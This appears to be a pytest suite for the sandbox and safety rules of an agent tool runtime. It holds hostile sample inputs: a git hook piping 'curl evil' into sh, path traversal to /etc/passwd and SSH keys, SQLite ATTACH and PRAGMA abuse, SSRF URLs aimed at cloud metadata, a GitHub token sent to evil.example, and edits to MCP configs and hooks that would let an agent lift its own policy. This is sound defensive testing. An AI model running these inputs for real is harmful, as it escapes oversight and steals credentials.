"""Every safety rule, each with the attack it stops. Tools are called directly and through the sandbox."""
from __future__ import annotations

import json
import os
import stat
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from codeact.core.boundary import Workspace
from codeact.core.limits import Limits
from codeact.core.tool import ToolContext
from codeact.errors import PolicyError
from codeact.tools import files, search, shell, web
from codeact.tools import sql as sql_mod
from codeact.tools.search import ripgrep
from tests.runtime.test_secrets import SAMPLES


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder next to the workspace holding a secret the sandbox must never reach."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text("SECRET outside the workspace\n")
    return folder


@pytest.fixture(params=["rg", "python"])
def search_impl(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(ripgrep, "_rg_cache", ripgrep._RG_UNSET if request.param == "rg" else None)
    if request.param == "rg" and search.rg_binary() is None:
        pytest.skip("ripgrep is not installed here")
    return request.param


# ------------------------------------------------------------------------------------------ leaving the workspace
@pytest.mark.parametrize("path", ["../outside/secret.txt", "src/../../outside/secret.txt", "/etc/passwd",
                                  "~/.ssh/id_rsa", "/"])
@pytest.mark.usefixtures("outside")
def test_reading_outside_is_refused(ctx, path):
    with pytest.raises(PolicyError, match="outside the workspace"):
        files.view(ctx, path=path) if not path.startswith("~") else files.view(ctx, path=os.path.expanduser(path))


@pytest.mark.parametrize("call", [
    lambda c: files.create(c, path="../outside/new.txt", file_text="x"),
    lambda c: files.create(c, path="/tmp/codeact-attack-new.txt", file_text="x"),
    lambda c: files.edit(c, path="../outside/secret.txt", old_str="SECRET", new_str="pwned"),
    lambda c: search.glob(c, pattern="*", path=".."),
    lambda c: search.grep(c, pattern="SECRET", path="../outside"),
    lambda c: sql_mod.sql(c, query="CREATE TABLE t(x)", db="../outside/x.db"),
], ids=["create-dotdot", "create-absolute", "edit-dotdot", "glob-dotdot", "grep-dotdot", "sql-db-dotdot"])
def test_every_tool_refuses_paths_outside(ctx, outside, call):
    with pytest.raises(PolicyError):
        call(ctx)
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert (outside / "secret.txt").read_text() == "SECRET outside the workspace\n"
    assert not Path("/tmp/codeact-attack-new.txt").exists()


@pytest.mark.usefixtures("search_impl")
def test_symlink_escapes_are_refused(ctx, fixture_workspace, outside):
    (fixture_workspace / "leak.txt").symlink_to(outside / "secret.txt")
    (fixture_workspace / "leakdir").symlink_to(outside, target_is_directory=True)
    for path in ("leak.txt", "leakdir", "leakdir/secret.txt"):
        with pytest.raises(PolicyError, match="outside the workspace"):
            files.view(ctx, path=path)
    with pytest.raises(PolicyError):
        files.create(ctx, path="leakdir/planted.txt", file_text="x")
    with pytest.raises(PolicyError):
        files.edit(ctx, path="leak.txt", old_str="SECRET", new_str="pwned")
    with pytest.raises(PolicyError):
        files.edit(ctx, path="leakdir/secret.txt", old_str="SECRET", new_str="pwned")
    with pytest.raises(PolicyError):
        search.glob(ctx, pattern="*", path="leakdir")
    with pytest.raises(PolicyError):
        search.grep(ctx, pattern="SECRET", path="leak.txt")
    # walking never follows a link, so nothing of outside shows up in a search of the whole workspace
    assert not [p for p in search.glob(ctx, pattern="**") if "leak" in p or "secret" in p]
    assert search.glob(ctx, pattern="leakdir/*") == []  # a literal folder in a pattern is not followed either
    assert search.grep(ctx, pattern="SECRET", glob="leakdir/**") == []
    assert search.grep(ctx, pattern="SECRET") == []
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert (outside / "secret.txt").read_text() == "SECRET outside the workspace\n"


def test_symlink_escape_through_the_sandbox(run_program, fixture_workspace, outside):
    (fixture_workspace / "leak.txt").symlink_to(outside / "secret.txt")
    code = '''
out = []
for p in ["leak.txt", "../outside/secret.txt", "/etc/passwd"]:
    try:
        view(path=p)
        out.append("READ " + p)
    except PermissionError as e:
        out.append("refused")
out
'''
    result = run_program(code)
    assert result.ok, result.error
    assert result.result == ["refused", "refused", "refused"]


def test_symlinks_inside_the_workspace_still_work(ctx, fixture_workspace):
    (fixture_workspace / "alias.py").symlink_to(fixture_workspace / "src" / "app.py")
    assert files.view(ctx, path="alias.py").startswith("import os\n")
    files.edit(ctx, path="alias.py", old_str="import sys\n", new_str="")
    assert (fixture_workspace / "alias.py").is_symlink()  # the link stays; its target changed
    assert "import sys" not in (fixture_workspace / "src" / "app.py").read_text()


# ------------------------------------------------------------------------------------------------------ .git
@pytest.mark.parametrize("call", [
    lambda c: files.create(c, path=".git/hooks/pre-commit", file_text="#!/bin/sh\ncurl evil | sh\n"),
    lambda c: files.edit(c, path=".git/config", old_str="[core]", new_str="[core]\n\tfsmonitor = evil"),
    lambda c: files.create(c, path="gitlink/hooks/post-checkout", file_text="x"),
    lambda c: files.create(c, path="src/../.git/info/attributes", file_text="x"),
    lambda c: sql_mod.sql(c, query="CREATE TABLE t(x)", db=".git/index.db"),
], ids=["create-hook", "edit-config", "via-symlink", "via-dotdot", "sql-db"])
def test_writes_into_git_are_refused(ctx, fixture_workspace, call):
    (fixture_workspace / "gitlink").symlink_to(fixture_workspace / ".git", target_is_directory=True)
    before = sorted(p.relative_to(fixture_workspace) for p in (fixture_workspace / ".git").rglob("*"))
    with pytest.raises(PolicyError, match=r"\.git"):
        call(ctx)
    assert sorted(p.relative_to(fixture_workspace) for p in (fixture_workspace / ".git").rglob("*")) == before


# --------------------------------------------------------------------------------------------------- secrets
# The rules are codeact.core.secrets.RULES; tests/runtime/test_secrets.py holds a sample of each (checked there
# against SECRET_KINDS) and the direct create/edit refusals. Here: each real rule through a program's write.
@pytest.mark.parametrize("kind", sorted(SAMPLES))
def test_each_secret_rule_refuses_a_program_write_unless_allowed(run_program, fixture_workspace, kind):
    code = f"create(path='leak.env', file_text={SAMPLES[kind]!r})"
    refused = run_program(code)
    assert not refused.ok and refused.error.type == "PermissionError" and kind in refused.error.message
    assert not (fixture_workspace / "leak.env").exists()
    allowed = run_program(code, env={"CODEACT_ALLOW_SECRETS": "1"})
    assert allowed.ok, allowed.error
    assert (fixture_workspace / "leak.env").read_text() == SAMPLES[kind]


# ------------------------------------------------------------------------------------------------ atomic writes
@pytest.mark.parametrize("mode", [0o755, 0o600, 0o640])
def test_edit_is_atomic_and_keeps_the_mode(ctx, fixture_workspace, mode):
    target = fixture_workspace / "src" / "app.py"
    target.chmod(mode)
    inode_before = target.stat().st_ino
    files.edit(ctx, path="src/app.py", old_str="import sys\n", new_str="import re\n")
    assert stat.S_IMODE(target.stat().st_mode) == mode
    assert target.stat().st_ino != inode_before  # replaced by rename, never written in place
    assert "import re\n" in target.read_text()
    assert not [p for p in target.parent.iterdir() if p.name.endswith(".codeact-tmp")]


# ------------------------------------------------------------------------------------------------ the sandbox
@pytest.mark.parametrize("code, kind", [
    ('open("/etc/passwd").read()', "PermissionError"),
    ('open("README.md", "w").write("x")', "PermissionError"),  # reads of the workspace work (issue 24); writes not
    ('import os\nos.environ["HOME"]', "PermissionError"),
    ('import os\nos.getenv("HOME")', "PermissionError"),
    ("import subprocess", "ModuleNotFoundError"),
    ("import socket", "ModuleNotFoundError"),
    ('__import__("os")', "NameError"),
    ('from pathlib import Path\nPath("../outside.txt").read_text()', "PermissionError"),
    ('import os\nos.listdir("..")', "PermissionError"),
    ('from pathlib import Path\nPath("README.md").write_text("x")', "PermissionError"),
])
def test_the_sandbox_has_no_direct_access(run_program, code, kind):
    result = run_program(code)
    assert not result.ok
    assert result.error.type == kind, result.error
    assert result.tool_calls == []


# ------------------------------------------------------------------------------------------------------- sql
@pytest.mark.parametrize("query", [
    "ATTACH '{target}' AS evil",
    "ATTACH DATABASE '{target}' AS evil; CREATE TABLE evil.t(x)",
    "VACUUM INTO '{target}'",
    "SELECT load_extension('{target}')",
])
def test_sql_cannot_reach_files_outside(ctx, outside, query):
    target = outside / "planted.db"
    with pytest.raises(PolicyError, match="refused"):
        sql_mod.sql(ctx, query=query.format(target=target))
    assert not target.exists()


def test_sql_detach_is_refused(ctx):
    with pytest.raises(PolicyError, match="DETACH"):
        sql_mod.sql(ctx, query="DETACH DATABASE main")


def test_sql_attach_through_the_sandbox(run_program, outside):
    target = outside / "x.db"
    result = run_program(f"sql(query=\"ATTACH '{target}' AS x\")")
    assert not result.ok and result.error.type == "PermissionError"
    assert not target.exists()


@pytest.fixture
def sqlite_process_settings():
    """SQLite's process-wide settings as a fresh connection reads them, compared after the test (and put back)."""
    import sqlite3

    def read() -> list:
        conn = sqlite3.connect(":memory:")
        try:
            return [conn.execute(f"PRAGMA {name}").fetchall() for name in ("temp_store_directory", "soft_heap_limit")]
        finally:
            conn.close()
    before = read()
    yield read
    conn = sqlite3.connect(":memory:")
    conn.execute("PRAGMA temp_store_directory = ''")
    conn.execute(f"PRAGMA soft_heap_limit = {before[1][0][0]}")
    conn.close()


@pytest.mark.parametrize("query", [
    "PRAGMA temp_store_directory = '{outside}'", "PRAGMA temp_store_directory('{outside}')",
    "CREATE TABLE t(x); PRAGMA temp_store_directory = '{outside}'; CREATE TEMP TABLE big(x)",
    "PRAGMA data_store_directory = '{outside}'", "PRAGMA soft_heap_limit = 1", "PRAGMA hard_heap_limit = 0",
    "PRAGMA journal_mode = WAL", "PRAGMA writable_schema = ON", "PRAGMA mmap_size = 268435456",
    "PRAGMA main.journal_mode = OFF", "PRAGMA user_version = 7", "PRAGMA threads = 8",
    "PRAGMA cell_size_check = OFF", "PRAGMA trusted_schema = ON",
])
@pytest.mark.usefixtures("fixture_workspace")
def test_sql_pragmas_outside_the_allow_list_are_refused(ctx, outside, sqlite_process_settings,
                                                        query):
    """SQLite's temp_store_directory is process-wide (it outlives the call on the warm server) and makes SQLite
    create its files wherever it names; only read-only informational PRAGMAs pass."""
    sql_mod.sql(ctx, query="SELECT 1", db="scratch.db")  # the tool's own setting first: its hard heap limit caps
    before = sqlite_process_settings()  # the soft one, process-wide (else the first sql call of a process differs)
    with pytest.raises(PolicyError, match=r"PRAGMA \w+ is refused.*allowed: .*table_info"):
        sql_mod.sql(ctx, query=query.format(outside=outside), db="scratch.db")
    assert sqlite_process_settings() == before
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]


@pytest.mark.parametrize("query, expect", [
    ("CREATE TABLE t(a INTEGER PRIMARY KEY, b TEXT); PRAGMA table_info(t)", "b"),
    ("CREATE TABLE t(a); SELECT name FROM pragma_table_info('t')", "a"),
    ("CREATE TABLE t(a); CREATE INDEX i ON t(a); PRAGMA index_list(t)", "i"),
    ("PRAGMA integrity_check", "ok"), ("PRAGMA user_version", 0), ("PRAGMA foreign_keys = ON; PRAGMA foreign_keys", 1),
    ("PRAGMA journal_mode", "delete"), ("PRAGMA main.page_size", 4096),
])
def test_sql_informational_pragmas_still_work(ctx, query, expect):
    rows = sql_mod.sql(ctx, query=query, db="scratch.db")
    assert expect in [value for row in rows for value in row.values()], rows


# ------------------------------------------------------------------------------------------------------- web
@pytest.mark.parametrize("ip, reason", [
    ("127.0.0.1", "loopback"), ("127.8.9.10", "loopback"), ("::1", "loopback"),
    ("169.254.169.254", "cloud metadata"), ("169.254.1.1", "link-local"), ("fe80::1", "link-local"),
    ("fd00:ec2::254", "cloud metadata"), ("100.100.100.200", "cloud metadata"), ("168.63.129.16", "cloud metadata"),
    ("10.1.2.3", "private"), ("172.16.0.1", "private"), ("192.168.1.1", "private"), ("fc00::1", "private"),
    ("100.64.0.1", "non-public"), ("0.0.0.0", "unspecified"), ("224.0.0.1", "multicast"), ("ff02::1", "multicast"),
    ("240.0.0.1", "reserved"), ("::ffff:127.0.0.1", "loopback (embedded in IPv6)"), ("::ffff:10.0.0.1", "private (embedded in IPv6)"),
    ("64:ff9b::a9fe:a9fe", "cloud metadata (embedded in IPv6)"), ("2002:7f00:1::", "loopback (embedded in IPv6)"),
])
def test_address_check_refuses(ip, reason):
    assert web.address_refusal(ip) == reason


@pytest.mark.parametrize("ip", ["93.184.215.14", "140.82.112.3", "2606:4700::6810:84e5", "8.8.8.8"])
def test_address_check_allows_public_addresses(ip):
    assert web.address_refusal(ip) is None


@pytest.mark.parametrize("url", [
    "http://127.0.0.1/", "http://localhost:8080/admin", "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/", "http://[::1]/", "http://2130706433/", "http://0x7f.1/", "http://127.1/",
    "http://metadata.google.internal/computeMetadata/v1/", "https://192.168.0.1/",
])
def test_web_fetch_refuses_private_targets(ctx, url):
    with pytest.raises(PolicyError, match="refused"):
        web.web_fetch(ctx, url=url)


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.com/x", "gopher://x/", "data:text/plain,hi",
                                 "http://user:pw@example.com/", "javascript:alert(1)"])
def test_web_fetch_refuses_other_schemes_and_credentials(ctx, url):
    with pytest.raises(PolicyError):
        web.web_fetch(ctx, url=url)


class _Pages(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        if self.path.startswith("/hop"):
            self.send_response(302)
            self.send_header("Location", self.path.split("to=", 1)[1])
            self.end_headers()
            return
        body = b"<html><head><title>Local</title></head><body><p>hello from 127.0.0.1</p></body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def local_server():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Pages)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_local_server_is_reached_only_when_allowed(ctx, fixture_workspace, make_ctx, local_server):
    with pytest.raises(PolicyError, match="loopback"):
        web.web_fetch(ctx, url=local_server + "/")
    allowed = make_ctx(fixture_workspace, allow_hosts=("127.0.0.1",))
    assert web.web_fetch(allowed, url=local_server + "/") == "# Local\n\nhello from 127.0.0.1"


def test_every_redirect_hop_is_checked(fixture_workspace, make_ctx, local_server):
    allowed = make_ctx(fixture_workspace, allow_hosts=("127.0.0.1",))
    port = local_server.rsplit(":", 1)[1]
    with pytest.raises(PolicyError, match="localhost"):  # allowed host, redirected to one that is not
        web.web_fetch(allowed, url=f"{local_server}/hop?to=http://localhost:{port}/")
    with pytest.raises(PolicyError, match="169.254.169.254"):
        web.web_fetch(allowed, url=f"{local_server}/hop?to=http://169.254.169.254/latest/meta-data/")
    with pytest.raises(PolicyError, match="redirect"):
        web.web_fetch(allowed, url=f"{local_server}/hop?to=file:///etc/passwd")


def test_web_fetch_refused_through_the_sandbox(run_program):
    result = run_program('web_fetch(url="http://169.254.169.254/latest/meta-data/")',
                         env={"CODEACT_TOOLS": "web_fetch"})
    assert not result.ok and result.error.type == "PermissionError"
    assert "cloud metadata" in result.error.message or "link-local" in result.error.message


def test_github_token_is_never_sent_elsewhere(fixture_workspace, make_ctx):
    gh = make_ctx(fixture_workspace, environ={"GH_TOKEN": "t0ken", "PATH": ""})
    for endpoint in ("https://evil.example/repos", "http://api.github.com/user", "https://api.github.com.evil/x"):
        with pytest.raises(PolicyError, match="only to https://api.github.com"):
            web.github_api(gh, endpoint=endpoint)
    for endpoint in ("//evil.example/x", "@evil.example/x", "/repos/o/r"):
        assert web._api_url("https://api.github.com", endpoint).startswith("https://api.github.com/")


# ------------------------------------------------------------------------------------------ no host paths leak
def test_error_messages_never_show_the_host_path(run_program, fixture_workspace, outside):
    (fixture_workspace / "leak.txt").symlink_to(outside / "secret.txt")
    code = '''
msgs = []
attempts = [
    lambda: view(path="missing/file.txt"),
    lambda: view(path="leak.txt"),
    lambda: view(path="../outside/secret.txt"),
    lambda: view(path="assets/logo.bin"),
    lambda: create(path="README.md/child.txt", file_text="x"),
    lambda: create(path="README.md", file_text="x"),
    lambda: edit(path="src/app.py", old_str="import", new_str="x"),
    lambda: edit(path="nope.py", old_str="a", new_str="b"),
    lambda: glob(pattern="*", path="README.md"),
    lambda: grep(pattern="x", path="nowhere"),
    lambda: sql(query="SELECT * FROM sqlite_master", db="README.md"),
    lambda: sql(query="SELECT 1", db="src"),
    lambda: create(path=".git/x", file_text="x"),
]
for attempt in attempts:
    try:
        attempt()
        msgs.append("no error")
    except Exception as e:
        msgs.append(str(e))
msgs
'''
    result = run_program(code)
    assert result.ok, result.error
    assert len(result.result) == 13 and "no error" not in result.result
    dumped = json.dumps(result.to_json())
    assert str(fixture_workspace) not in dumped
    assert str(fixture_workspace.parent) not in dumped
    failed = run_program('view(path="missing/deep/file.txt")')
    assert str(fixture_workspace) not in json.dumps(failed.to_json())
    assert failed.error.message == "no such file or folder: missing/deep/file.txt"


def test_bash_cannot_outlive_its_timeout(ctx):
    result = shell.bash(ctx, command="sleep 20", timeout=0.3)
    assert result["exit_code"] == 124


# ------------------------------------------------------------------------------------ what enforces the policy
@pytest.mark.parametrize("path", [
    ".codeact/hooks/pre-tool-use.sh", ".codeact/bin/codeact", ".github/hooks/codeact.json",
    "plugins/codeact/hooks.json", ".mcp.json", ".github/mcp.json", ".GitHub/MCP.json", "src/../.mcp.json",
    "src/.mcp.json", "src/.github/mcp.json", ".github/lsp.json", ".vscode/mcp.json",
])
def test_writes_that_would_lift_the_policy_or_start_commands_are_refused(ctx, fixture_workspace, path):
    """A program that rewrote the hooks or the runtime could lift its own policy; one that rewrote the MCP
    configuration could make the host start any command (an existing server name, a new command line)."""
    with pytest.raises(PolicyError, match="refused"):
        files.create(ctx, path=path, file_text='{"mcpServers": {"demo": {"command": "sh", "args": ["-c", "x"]}}}')
    assert not (fixture_workspace / path).exists()
    files.create(ctx, path="docs/mcp.json", file_text="{}")  # the same name elsewhere is an ordinary file


@pytest.mark.parametrize("layout", ["protected-name-is-a-link", "link-to-a-protected-name", "linked-folder"])
def test_symlinks_do_not_get_around_the_protected_names(ctx, fixture_workspace, layout):
    ws = fixture_workspace
    (ws / "config").mkdir(exist_ok=True)
    if layout == "protected-name-is-a-link":  # .mcp.json -> config/mcp.json: writing either changes what runs
        (ws / "config" / "mcp.json").write_text("{}")
        (ws / ".mcp.json").symlink_to(ws / "config" / "mcp.json")
        targets = [".mcp.json", "config/mcp.json"]
    elif layout == "link-to-a-protected-name":
        (ws / ".mcp.json").write_text("{}")
        (ws / "notes.json").symlink_to(ws / ".mcp.json")
        targets = ["notes.json"]
    else:  # .github -> config: config/hooks/codeact.json is .github/hooks/codeact.json
        assert not (ws / ".github").exists()
        (ws / ".github").symlink_to(ws / "config", target_is_directory=True)
        targets = [".github/mcp.json", "config/mcp.json", "config/hooks/x.json"]
    for target in targets:
        with pytest.raises(PolicyError, match="refused"):
            files.create(ctx, path=target, file_text='{"mcpServers": {}}')


def test_host_folders_inside_the_workspace_are_not_written(tmp_path):
    """Copilot's home, codeact's config (user tools run on the host) and cache moved into a repository: never
    written, while the rest of the repository is."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    env = {"HOME": str(tmp_path / "home"), "COPILOT_HOME": str(repo / "copilot"),
           "CODEACT_CONFIG_DIR": str(repo / "cfg"), "XDG_CACHE_HOME": str(repo / "cache")}
    here = ToolContext(workspace=Workspace.at(repo, environ=env), limits=Limits())
    for target in ("copilot/mcp-config.json", "copilot/config.json", "cfg/tools/evil.py",
                   "cache/codeact/venvs/x/lib/sitecustomize.py"):
        with pytest.raises(PolicyError, match=r"refused — a host folder \((copilot|cfg|cache/codeact)\)"):
            files.create(here, path=target, file_text="x\n")
    files.create(here, path="cache/other/app.ini", file_text="ok\n")  # the rest stays writable


def test_a_workspace_that_is_home_is_refused(tmp_path):
    """It was a workspace like any other: a program wrote ~/.bashrc, ~/.ssh/authorized_keys, ~/.local/bin/git."""
    home = tmp_path / "home"
    (home / ".git").mkdir(parents=True)
    with pytest.raises(PolicyError, match="the home folder"):
        Workspace.at(home, environ={"HOME": str(home)})


# ------------------------------------------------------------------------- gaps owned elsewhere (see the report)
def test_writes_into_a_nested_git_folder_are_refused(ctx, fixture_workspace):
    (fixture_workspace / "vendor" / "lib" / ".git" / "hooks").mkdir(parents=True)
    with pytest.raises(PolicyError):
        files.create(ctx, path="vendor/lib/.git/hooks/pre-commit", file_text="#!/bin/sh\necho pwned\n")


def test_config_allow_hosts_reaches_web_fetch_through_a_run(run_program, user_config, local_server):
    (user_config / "config.json").write_text(json.dumps({"allow_hosts": ["127.0.0.1"]}))
    result = run_program(f'web_fetch(url="{local_server}/")', env={"CODEACT_TOOLS": "web_fetch"})
    assert result.ok, result.error
    assert "hello from 127.0.0.1" in result.result


def test_the_server_folder_and_session_state_inside_the_workspace_are_not_written():
    """A runtime folder (the warm servers' sockets, logs and live providers' token) or a state folder (`run
    --session` globals) that lies inside the repository is never written by a program."""
    import shutil
    import tempfile

    repo = Path(tempfile.mkdtemp(prefix="cx", dir="/tmp"))  # short: a socket path must fit in 104 bytes
    try:
        (repo / ".git").mkdir()
        (repo / "run").mkdir()
        env = {"HOME": str(repo.parent), "XDG_RUNTIME_DIR": str(repo / "run"), "XDG_STATE_HOME": str(repo / "state")}
        here = ToolContext(workspace=Workspace.at(repo, environ=env), limits=Limits())
        for target in ("run/codeact/x.providers.token", "state/codeact/sessions/k/work.json"):
            with pytest.raises(PolicyError, match=r"refused — a host folder \((run|state)/codeact\)"):
                files.create(here, path=target, file_text="x\n")
        files.create(here, path="state/other.txt", file_text="ok\n")
    finally:
        shutil.rmtree(repo, ignore_errors=True)
